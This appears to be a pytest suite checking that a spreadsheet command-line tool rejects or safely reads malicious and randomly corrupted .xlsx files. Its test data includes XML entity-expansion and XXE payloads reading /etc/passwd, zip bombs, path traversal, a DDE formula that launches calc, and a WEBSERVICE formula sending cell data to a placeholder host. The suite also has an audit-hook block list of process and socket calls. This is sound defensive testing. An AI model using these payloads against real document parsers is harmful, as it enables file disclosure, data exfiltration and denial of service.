"""Workbooks made to do harm, or damaged at random: refused or harmless, in bounded time and memory, and never run."""

from __future__ import annotations

import random
import re
import subprocess
import sys
import zipfile
from collections import Counter
from pathlib import Path

import pytest
from company import company, write
from torture import figure, times

from cvm_xl.book.package import Package
from cvm_xl.cli import main
from workbooks import workbook

MEMORY = 3 * 2**30
SECONDS = 240  # a workbook of a million styles takes a while to read; a hang takes for ever

GUARDED = """
import resource, sys

resource.setrlimit(resource.RLIMIT_AS, (int(sys.argv[1]), int(sys.argv[1])))
FORBIDDEN = ("socket.", "subprocess.", "os.fork", "os.exec", "os.posix_spawn", "os.system", "pickle.find_class")
watching = False

def watch(event, details):
    if not watching:
        return
    if event == "open" and str(details[0]).endswith("passwd"):
        raise SystemExit(f"opened {details[0]}")
    if event.startswith(FORBIDDEN):
        raise SystemExit(f"did {event}")

sys.addaudithook(watch)
from cvm_xl.cli import main
watching = True
code = main(sys.argv[2:])
watching = False
sys.exit(code)
"""


@pytest.fixture(scope="module")
def plain(tmp_path_factory):
    """The parts of a small workbook, refreshed once."""
    tables = company()
    pools = tables["CostPools"]
    tables = {"Sales": tables["Sales"][:300], "CostPools": pools[pools["driver"].isin(["lines", "orders"])]}
    path = write(tmp_path_factory.mktemp("plain") / "book.xlsx", tables, "starter")
    with zipfile.ZipFile(path) as file:
        return {name: file.read(name) for name in file.namelist()}


def packed(path: Path, parts: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return path


def sales_part(parts: dict[str, bytes]) -> str:
    """The sheet of Sales."""
    book = parts["xl/workbook.xml"].decode()
    relation = re.search(r'<sheet [^>]*name="Sales"[^>]*r:id="(\w+)"', book)
    assert relation
    links = parts["xl/_rels/workbook.xml.rels"].decode()
    for link in re.findall("<Relationship [^>]*>", links):
        if f'Id="{relation.group(1)}"' in link:
            return "xl/" + re.search(r'Target="([^"]*)"', link).group(1).removeprefix("/xl/")
    raise AssertionError(links)


def in_sales(old: str, new: str, count: int = 1):
    """A change of the sheet of Sales."""

    def change(parts):
        name = sales_part(parts)
        text = parts[name].decode()
        assert re.search(old, text), text[:3000]
        parts[name] = re.sub(
            old, lambda m: new.replace("{}", m.group(1)) if m.groups() else new, text, count=count
        ).encode()

    return change


def in_part(name: str, old: str, new: str, first: str = ""):
    """A change of a part; `first` stands in its first text."""

    def change(parts):
        text = parts[name].decode()
        assert old in text, text[:2000]
        text = text.replace(old, new, 1)
        parts[name] = (re.sub("<t>[^<]*</t>", f"<t>{first}</t>", text, count=1) if first else text).encode()

    return change


def with_part(name: str, content: bytes):
    def change(parts):
        parts[name] = content

    return change


def many_sheets(parts):
    for i in range(5000):
        parts[f"xl/worksheets/extra{i}.xml"] = EMPTY_SHEET
    sheets = "".join(f'<sheet name="x{i}" sheetId="{9000 + i}" r:id="rx{i}"/>' for i in range(5000))
    links = "".join(
        f'<Relationship Id="rx{i}" Type="{TYPES}/worksheet" Target="worksheets/extra{i}.xml"/>' for i in range(5000)
    )
    types = "".join(
        f'<Override PartName="/xl/worksheets/extra{i}.xml" ContentType="{SHEET_TYPE}"/>' for i in range(5000)
    )
    in_part("xl/workbook.xml", "</sheets>", f"{sheets}</sheets>")(parts)
    in_part("xl/_rels/workbook.xml.rels", "</Relationships>", f"{links}</Relationships>")(parts)
    in_part("[Content_Types].xml", "</Types>", f"{types}</Types>")(parts)


TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
EMPTY_SHEET = f'<worksheet xmlns="{MAIN}"><sheetData/></worksheet>'.encode()
LAUGHS = (
    "<!DOCTYPE x ["
    + '<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9))
    + "]>"
)
DEFINED = '<definedName name="n{}">Sales!$A$1</definedName>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
CELL = r'<c r="B\d+"[^>]*>.*?</c>'
FIRST_ROW = r'<row r="1"'


FAR_EMPTY = '<row r="1048576"><c r="XFD1048576" s="0"/></row>'
DOWN_CELL = '<row r="1048576"><c r="BF1048576"><v>1</v></c></row>'
FAR_CELL = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
TABLE_COLUMN = '<tableColumn id="9" name="x"/>'


def in_table(old: str, new: str):
    """A change of the table Sales."""

    def change(parts):
        name = next(n for n in parts if n.startswith("xl/tables/") and b'displayName="Sales"' in parts[n])
        parts[name] = re.sub(old, new, parts[name].decode(), flags=re.DOTALL).encode()

    return change


def styles(parts):
    text = parts["xl/styles.xml"].decode()
    more = '<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>' * 1_000_000
    parts["xl/styles.xml"] = text.replace("</cellXfs>", f"{more}</cellXfs>", 1).encode()


def names(text):
    def change(parts):
        book = parts["xl/workbook.xml"].decode()
        if "<definedNames>" in book:
            book = book.replace("<definedNames>", f"<definedNames>{text}", 1)
        else:
            book = book.replace("</sheets>", f"</sheets><definedNames>{text}</definedNames>", 1)
        parts["xl/workbook.xml"] = book.encode()

    return change


def linked(target: str, mode: str = ""):
    """A relationship of the workbook to somewhere else."""
    link = f'<Relationship Id="rEvil" Type="{TYPES}/externalLink" Target="{target}"{mode}/>'
    return in_part("xl/_rels/workbook.xml.rels", "</Relationships>", f"{link}</Relationships>")


def retargeted(target: str):
    """The sheet of Sales is said to lie elsewhere."""

    def change(parts):
        name = sales_part(parts).removeprefix("xl/")
        text = parts["xl/_rels/workbook.xml.rels"].decode()
        parts["xl/_rels/workbook.xml.rels"] = re.sub(f'Target="(/xl/)?{name}"', f'Target="{target}"', text).encode()

    return change


def formula(text: str, value: str = "17"):
    return in_sales(CELL, f'<c r="C5"><f>{text}</f><v>{value}</v></c>')


ANY = "?"
# What is done to the workbook, and the words of the refusal; None where it must be read as if nothing were, ANY where
# either will do.
HARM = {
    "laughs in the sheet": (in_sales("<worksheet(.*?)<v>[^<]*</v>", f"{LAUGHS}<worksheet{{}}<v>&j;</v>"), ANY),
    "a file in the sheet": (in_sales("<worksheet(.*?)<v>[^<]*</v>", f"{OUTSIDE}<worksheet{{}}<v>&a;</v>"), ANY),
    "laughs in the texts": (in_part("xl/sharedStrings.xml", "<sst", f"{LAUGHS}<sst", "&j;"), ANY),
    "a file in the texts": (in_part("xl/sharedStrings.xml", "<sst", f"{OUTSIDE}<sst", "&a;"), ANY),
    "laughs in the properties": (with_part("docProps/custom.xml", (LAUGHS + "<x>&j;</x>").encode()), None),
    "a bomb in the sheet": (in_sales("</worksheet>", " " * (300 * 2**20) + "</worksheet>"), "would unpack"),
    "a bomb beside it": (with_part("xl/media/image1.png", bytes(300 * 2**20)), "would unpack"),
    "5,000 sheets": (many_sheets, None),
    "ever so many styles": (styles, None),
    "names in a circle": (
        names('<definedName name="A_">B_</definedName><definedName name="B_">A_</definedName>'),
        None,
    ),
    "ever so many names": (
        names("".join(f'<definedName name="n{i}">Sales!$A$1</definedName>' for i in range(times(10_000, 200_000)))),
        None,
    ),
    "a link to the web": (linked("http://example.invalid/x.xml", ' TargetMode="External"'), None),
    "a link to a file": (linked("file:///etc/passwd", ' TargetMode="External"'), None),
    "a link up the tree": (linked("../../../../etc/passwd"), None),
    "the sheet up the tree": (retargeted("../../../../etc/passwd"), "lacks its part"),
    "the sheet on the web": (retargeted("http://example.invalid/sheet.xml"), ANY),
    "a formula that calls the web": (formula('WEBSERVICE("http://example.invalid/"&amp;A1)'), None),
    "a formula of another program": (formula("cmd|' /C calc'!A0"), None),
    "a formula of another workbook": (formula("'file:///etc/[passwd]x'!A1"), None),
    "a formula with a million signs": (formula("1" + "+1" * 500_000), None),
    "texts nested a thousand deep": (
        in_part("xl/sharedStrings.xml", "<si>", "<si>" + "<r>" * 1000 + "</r>" * 1000),
        None,
    ),
    "elements nested 100,000 deep": (in_sales("</sheetData>", f"{'<c>' * 100_000}{'</c>' * 100_000}</sheetData>"), ANY),
    "a sheet that never ends": (in_sales("</sheetData>.*", ANY), ""),
    "a cell in the last corner": (in_sales("</sheetData>", f"{FAR_CELL}</sheetData>"), "as far as XFD1048576"),
    "a cell in the last row": (in_sales("</sheetData>", f"{DOWN_CELL}</sheetData>"), "as far as BF1048576"),
    "an empty cell in the last corner": (in_sales("</sheetData>", f"{FAR_EMPTY}</sheetData>"), None),
    "a table of the whole sheet": (in_table(r'ref="[^"]*"', 'ref="A1:XFD1048576"'), ANY),
    "a table of nowhere": (in_table(r'ref="[^"]*"', 'ref="A0:-B7"'), ANY),
    "a table of 100,000 columns": (in_table("</tableColumns>", f"{TABLE_COLUMN * 100_000}</tableColumns>"), ANY),
}


def guarded(*command) -> subprocess.CompletedProcess[str]:
    """A command that may neither call others, nor take all memory, nor take for ever."""
    script = [sys.executable, "-c", GUARDED, str(MEMORY), *map(str, command)]
    return subprocess.run(script, capture_output=True, text=True, check=False, timeout=SECONDS)


@pytest.mark.parametrize("harm", HARM)
def test_a_hostile_workbook_is_refused_or_harmless(plain, tmp_path, harm):
    change, words = HARM[harm]
    parts = dict(plain)
    change(parts)
    book = packed(tmp_path / "book.xlsx", parts)
    before = book.read_bytes()
    done = guarded("refresh", book)
    assert "Traceback" not in done.stderr, done.stderr
    assert done.returncode in (0, 1), (done.returncode, done.stderr)
    if done.returncode:
        assert words is not None, done.stderr
        assert words == ANY or words in done.stderr, done.stderr
        assert len(done.stderr) < 3000
        assert book.read_bytes() == before
        assert [path.name for path in tmp_path.iterdir()] == ["book.xlsx"]
    else:
        assert words in (None, ANY), done.stdout
        assert "hahaha" not in done.stdout
        Package.open(book)
    figure(f"hostile workbook, {'refused' if done.returncode else 'harmless'}: {harm}")


# --- damage at random --------------------------------------------------------------------------------------------

ODD = [
    *("", "-1", "0", "1e999", "NaN", "99999999999999999999", "A1", "XFD1048577", "ZZZZ1", "A0", "s", "e", "b", "str"),
    *(
        "#REF!",
        "&amp;",
        "\u00e9",
        "2024-02-30",
        "0x10",
        " ",
        "true",
        "rId1",
        "A1:B2",
        "$A$1",
        "inlineStr",
        "d",
        "1e308",
    ),
]


def damaged(parts: dict[str, bytes], rng: random.Random) -> dict[str, bytes]:
    """The parts, one of them with a few values, elements or bytes changed."""
    parts = dict(parts)
    chosen = [name for name in parts if name.endswith((".xml", ".rels")) and "theme" not in name]
    important = [n for n in chosen if "sheet" in n or "table" in n or "workbook" in n or "Strings" in n]
    for _ in range(rng.choice([1, 1, 1, 2, 5])):
        name = rng.choice(important if rng.random() < 0.8 else chosen)
        text = parts[name].decode("utf-8", "surrogateescape")
        way = rng.choice(["value", "value", "content", "content", "drop", "twice", "swap", "bytes", "cut", "part"])
        spots = list(re.finditer({"value": r'="([^"]*)"', "content": r">([^<]+)<"}.get(way, r"<[^<>]*>"), text))
        if way == "part":
            parts.pop(name)
            if not any(n in parts for n in important):
                return parts
            important = [n for n in important if n in parts]
            chosen = [n for n in chosen if n in parts]
            continue
        if way in ("value", "content") and spots:
            spot = rng.choice(spots)
            text = text[: spot.start(1)] + rng.choice(ODD) + text[spot.end(1) :]
        elif way == "drop" and spots:
            spot = rng.choice(spots)
            text = text[: spot.start()] + text[spot.end() :]
        elif way == "twice" and spots:
            spot = rng.choice(spots)
            text = text[: spot.end()] + text[spot.start() :]
        elif way == "swap" and len(spots) > 1:
            one, two = sorted(rng.sample(spots, 2), key=lambda s: s.start())
            middle = text[one.end() : two.start()]
            text = text[: one.start()] + two.group() + middle + one.group() + text[two.end() :]
        elif way == "bytes" and text:
            at = rng.randrange(len(text))
            text = text[:at] + chr(rng.randrange(256)) + text[at + 1 :]
        elif way == "cut":
            text = text[: rng.randrange(len(text) + 1)]
        parts[name] = text.encode("utf-8", "surrogateescape")
    return parts


FOUND = (208, 285, 287, 445, 1743)  # damage that once was no clear message, or took for ever


SHARES = times(1, 20)


@pytest.mark.parametrize("share", range(SHARES))
def test_a_damaged_workbook_is_read_or_refused(plain, tmp_path, capsys, share):
    """Whatever is wrong inside, a message says so; what cannot be read is left as it is."""
    came = Counter()
    for seed in (*range(share, times(20, 2000), SHARES), *FOUND):
        book = packed(tmp_path / "book.xlsx", damaged(plain, random.Random(seed)))
        before = book.read_bytes()
        for command in ("check", "refresh"):
            code = main([command, str(book)])
            said = capsys.readouterr()
            assert code in (0, 1), (seed, command, said.err)
            assert "Traceback" not in said.err, (seed, said.err)
            assert "defect" not in said.err, (seed, said.err)
            came[command, code] += 1
            if code:
                assert said.out + said.err, seed
                assert book.read_bytes() == before, seed
        for path in tmp_path.iterdir():
            path.unlink()
    figure(f"damaged workbooks: {dict(came)}")


@pytest.mark.parametrize(("number", "look"), [(1e9, "[h]:mm"), (-1e18, "hh:mm"), (1e300, "yyyy-mm-dd")])
def test_a_number_that_no_calendar_has(tmp_path, capfd, number, look):
    """The reader overflows, or panics, where it makes a date or a duration of it."""

    def edit(book):
        book["Sales"].cell(4, 2).number_format = look

    rows = [["Date", "Customer", "Net revenue"], [number, "A", 5.0], [45000, "B", 3.0]]
    book = workbook(tmp_path / "book.xlsx", {"Sales": rows}, edit=edit)
    assert main(["check", str(book)]) == 1
    said = capfd.readouterr()
    assert "panicked" not in said.err  # Rust's own words, with a backtrace
    assert re.search(r"holds a number that is no date|Date: is no date", said.out + said.err)
    assert "Sales" in said.out + said.err
